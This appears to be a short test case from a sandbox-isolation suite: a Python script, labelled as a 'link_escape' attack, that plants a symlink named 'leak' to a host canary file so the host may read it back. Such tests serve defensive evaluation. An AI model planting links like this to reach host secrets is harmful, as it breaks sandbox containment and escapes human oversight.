# attack: symlink_canary_readback
# category: link_escape
# kind: link_escape
# readback: leak
# describe: plant a symlink to a host secret in the workspace, hoping the host follows it when it reads results back
import json
T = json.load(open("target.json"))

import os
os.symlink(T["canary_path"], "leak")
